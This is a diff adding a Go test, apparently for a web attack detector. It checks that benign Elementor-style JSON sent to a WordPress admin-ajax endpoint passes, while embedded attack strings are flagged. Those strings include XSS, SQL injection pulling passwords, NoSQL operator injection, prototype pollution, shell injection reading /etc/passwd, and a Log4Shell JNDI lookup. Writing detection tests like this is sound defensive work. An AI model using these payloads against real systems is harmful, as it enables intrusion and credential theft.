@@ -77,3 +77,48 @@ func TestTextsOfEditors(t *testing.T) {
 		check(text, true)
 	}
 }
+
+// A value of a form that is JSON is read as JSON: its texts are no attack where they are none as fields.
+func TestDocumentsInForms(t *testing.T) {
+	s := settingsOf(t, asIs)
+	many := ""
+	for range 300 {
+		many += `{"editor":"<p style=\"color:red\">find the <b>best</b> & sort it</p>","url":"https://example.com/a","update":"yes"},`
+	}
+	check := func(document string, attack bool) {
+		t.Helper()
+		for _, c := range []struct{ body, contentType string }{
+			{"action=elementor_ajax&actions=" + url.QueryEscape(document) + "&z=1", form},
+			{"--b\r\nContent-Disposition: form-data; name=\"actions\"\r\n\r\n" + document + "\r\n--b--\r\n", multipartB},
+		} {
+			if v := judge(t, s, asked("POST", "/wp-admin/admin-ajax.php", c.body, c.contentType), c.body); (v.score >= s.threshold) != attack {
+				t.Errorf("%.300s: %v", document, v)
+			}
+		}
+	}
+	for _, document := range []string{
+		`[{"id":"1a2b","elType":"section","settings":{"structure":"20","background_image":{"url":"https://example.com/a.jpg","id":5}},"elements":[{"id":"3c","elType":"widget","settings":{"editor":"<p style=\"color:red\">Hi <strong>you</strong></p>","title":"a & b"},"widgetType":"text-editor"}]}]`,
+		`{"save_builder":{"action":"save_builder","data":{"status":"publish","elements":[{"id":"1a2b","elType":"widget","settings":{"html":"<img src=\"https:\/\/example.com\/a.jpg\" alt=\"x\" \/>","link":{"url":"https:\/\/example.com","is_external":"on"},"_css_classes":"x","update":"yes"},"elements":[],"widgetType":"image"}],"settings":{"post_title":"A"}}}}`,
+		"[" + many + `{"a":"b"}]`,
+		`{"a":{"b":[1,true,null,"Order 123\nCancel my order"]},"c":"desk & wall lamp"}`,
+	} {
+		check(document, false)
+	}
+	for _, document := range []string{
+		`{"a":{"html":"\u003cscript\u003ealert(1)\u003c/script\u003e"}}`,
+		`{"a":"<img src=x onerror=alert(1)>"}`,
+		`{"a":"1' or '1'='1' union select password from users"}`,
+		`{"<script>alert(1)</script>":1}`,
+		`{"user":{"$ne":null}}`,
+		`{"__proto__":{"a":1}}`,
+		`["; cat /etc/passwd"]`,
+		`{"a":"${jndi:ldap://a.b/c}"}`,
+		"[" + many + `{"a":"1' union select password from users"}]`,
+		"[" + many + `{"a":"<script>alert(1)</script>"}]`,
+		"[" + many + `{"a":"x; cat /etc/passwd"}]`,
+		`{"a":1}; cat /etc/passwd`,
+		`{"a":"b"}' or 1=1 union select password from users`,
+	} {
+		check(document, true)
+	}
+}
